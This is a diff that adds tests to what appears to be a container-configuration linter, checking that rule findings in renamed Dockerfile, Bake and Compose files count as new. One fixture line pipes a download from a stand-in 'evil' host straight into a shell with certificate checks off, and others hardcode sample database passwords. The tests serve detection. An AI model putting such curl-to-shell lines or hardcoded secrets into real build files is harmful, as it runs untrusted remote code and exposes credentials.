@@ -54,6 +54,43 @@ describe.each([
     expect(rulesWith(report, 'new')).toEqual(['DL3004', 'DL3020']);
   });
 
+  it.each([
+    ['RUN sudo legacy', 'RUN sudo other', 'DL3004'],
+    ['RUN curl -k https://a/x | sh', 'RUN curl -k https://evil/x | sh', 'PS0023'],
+    ['ENV DB_PASSWORD=Kx93jfLq8vZ2pW', 'ENV DB_PASSWORD=Rm55hgTq1bN8sQ', 'PS0014'],
+  ])('%s that becomes %s in a renamed file is new', async (before, after, rule) => {
+    const text = (line: string) => `${DOCKERFILE}USER 1000\nLABEL a=b\n${line}\n`;
+    story.base({ Dockerfile: text(before) });
+    const words = isStored ? ['--baseline', await story.store()] : [];
+    story.commit({ Dockerfile: undefined, 'app.Dockerfile': text(after) });
+    const report = await story.run(words);
+    expect(rulesWith(report, 'new')).toContain(rule);
+    expect(rulesWith(report, 'fixed')).toContain(rule);
+  });
+
+  it('another secret in a renamed Bake file is new', async () => {
+    const bake = (value: string) =>
+      `target "a" {\n  dockerfile = "Dockerfile"\n  args = { DB_PASSWORD = "${value}" }\n}\n`;
+    story.base({ Dockerfile: DOCKERFILE, 'docker-bake.hcl': bake('Kx93jfLq8vZ2pW') });
+    const words = isStored ? ['--baseline', await story.store()] : [];
+    story.commit({
+      'docker-bake.hcl': undefined,
+      'docker-bake.override.hcl': bake('Rm55hgTq1bN8sQ'),
+    });
+    const report = await story.run(words);
+    expect(rulesWith(report, 'new')).toEqual(['password-assignment']);
+  });
+
+  it('another secret in a renamed Compose file is new', async () => {
+    const compose = (value: string) =>
+      `${COMPOSE}    environment:\n      DB_PASSWORD: ${value}\n    read_only: true\n`;
+    story.base({ 'compose.yaml': compose('Kx93jfLq8vZ2pW') });
+    const words = isStored ? ['--baseline', await story.store()] : [];
+    story.commit({ 'compose.yaml': undefined, 'compose.prod.yaml': compose('Rm55hgTq1bN8sQ') });
+    const report = await story.run(words);
+    expect(rulesWith(report, 'new')).toEqual(['DEP-ENVSECRET']);
+  });
+
   it('another file in its place is new', async () => {
     const report = await compared({
       Dockerfile: undefined,
